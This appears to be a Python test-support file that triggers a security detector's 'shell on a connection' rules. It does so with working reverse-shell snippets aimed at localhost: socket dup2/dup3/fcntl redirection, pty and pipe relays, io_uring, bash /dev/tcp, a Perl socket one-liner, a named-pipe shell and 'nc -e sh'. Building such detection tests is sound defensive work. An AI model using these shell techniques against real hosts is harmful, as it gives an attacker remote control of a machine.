"""Ways to a shell on a connection."""

from typing import Final

from tests.support.triggers.ways.way import HEAD, RING, Way

SHELL: Final = frozenset(
    {
        "Shell with a network connection as its terminal",
        "Network connection made a program's standard input or output",
        "Interactive shell started by an interpreter",
        "Outgoing connection of a shell or netcat",
        "Network tool started with a program to run",
        "Program with a network connection as its input and output",
    }
)
"""Rules of which one must be raised by a shell on a connection, by whichever way."""
_RING_MADE: Final = frozenset({"io_uring created by an unexpected program"})
_RELAY: Final = """
def relay(far, read, write):
    write(far.recv(100)); write(b"exit\\n")
    try:
        while data := read():
            far.sendall(data)
    except OSError:
        pass
"""


def _shell(by: str, act: str, rules: frozenset[str] = SHELL) -> Way:
    return Way("shell on a connection", by, rules, HEAD + act)


_SERVED: Final = (
    'threading.Thread(target=lambda: server.accept()[0].sendall(b"exit\\n"), daemon=True).start()\n'
    'quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}\n'
)
_PIPED: Final = frozenset({"Interactive shell driven through pipes"})
_FIFO: Final = "mkfifo /tmp/mozu-fifo; sh -i < /tmp/mozu-fifo 2>&1 | cat > /dev/null & echo exit > /tmp/mozu-fifo; wait"
_PERL: Final = (
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in($ARGV[0], inet_aton(q(127.0.0.1))));"
    "open(STDIN, q(<&S)); open(STDOUT, q(>&S)); exec(q(sh));"
)
SHELLS: Final = (
    _shell("dup2", "far, near = connected()\nfor n in 0, 1, 2: os.dup2(far.fileno(), n)\nshell()"),
    _shell("dup3", "far, near = connected()\nfor n in 0, 1, 2: call(292, far.fileno(), n, 0)\nshell()"),
    _shell(
        "fcntl",
        "far, near = connected()\n"
        "for n in 0, 1, 2:\n    os.close(n); fcntl.fcntl(far.fileno(), fcntl.F_DUPFD, n)\nshell()",
    ),
    _shell(
        "dup2, a symbolic link to the shell",
        "far, near = connected()\nos.symlink('/usr/bin/dash', '/tmp/mozu-agent')\n"
        "for n in 0, 1, 2: os.dup2(far.fileno(), n)\n"
        "child(lambda: os.execv('/tmp/mozu-agent', ['agent']))\nos.unlink('/tmp/mozu-agent')",
        SHELL - {"Network connection made a program's standard input or output"},
    ),
    _shell(
        "dup2, a copy of the shell",
        "far, near = connected()\nshutil.copy('/usr/bin/dash', '/tmp/mozu-agent')\n"
        "for n in 0, 1, 2: os.dup2(far.fileno(), n)\n"
        "child(lambda: os.execv('/tmp/mozu-agent', ['agent']))\nos.unlink('/tmp/mozu-agent')",
        SHELL - {"Network connection made a program's standard input or output"},
    ),
    _shell(
        "pipes",
        _RELAY + "far, near = connected()\n"
        "with subprocess.Popen(['sh'], stdin=-1, stdout=-1, bufsize=0) as made:\n"
        "    relay(far, lambda: made.stdout.read(100), made.stdin.write)",
    ),
    _shell(
        "a pseudoterminal",
        _RELAY + "far, near = connected()\npid, master = pty.fork()\nif not pid: os.execvp('sh', ['sh'])\n"
        "relay(far, lambda: os.read(master, 100), lambda data: os.write(master, data))",
    ),
    _shell(
        "io_uring",
        RING + "far = socket.socket()\nring_connect(far.fileno())\nserver.accept()[0].sendall(b'exit\\n')\n"
        "for n in 0, 1, 2: os.dup2(far.fileno(), n)\nshell()",
    ),
    _shell("io_uring, as such", RING + "far = socket.socket()\nring_connect(far.fileno())", _RING_MADE),
    _shell(
        "/dev/tcp",
        _SERVED + "command = f'exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3 # MARK'\n"
        "subprocess.run(['/usr/bin/bash', '-c', command], **quiet)",
    ),
    _shell("perl", _SERVED + f"subprocess.run(['/usr/bin/perl', '-e', '{_PERL}', str(port)], **quiet)"),
    _shell("python", "far, near = connected()\nsubprocess.run(['sh'], stdin=far, stdout=far, stderr=far)"),
    _shell(
        "a named pipe",
        f"subprocess.run(['sh', '-c', '{_FIFO}; : MARK'])\nos.unlink('/tmp/mozu-fifo')",
        _PIPED,
    ),
    _shell(
        "netcat",
        "shutil.copy('/usr/bin/true', '/tmp/nc')\nsubprocess.run(['/tmp/nc', '-e', 'sh', '127.0.0.1', '9'])\n"
        "os.remove('/tmp/nc')",
    ),
)
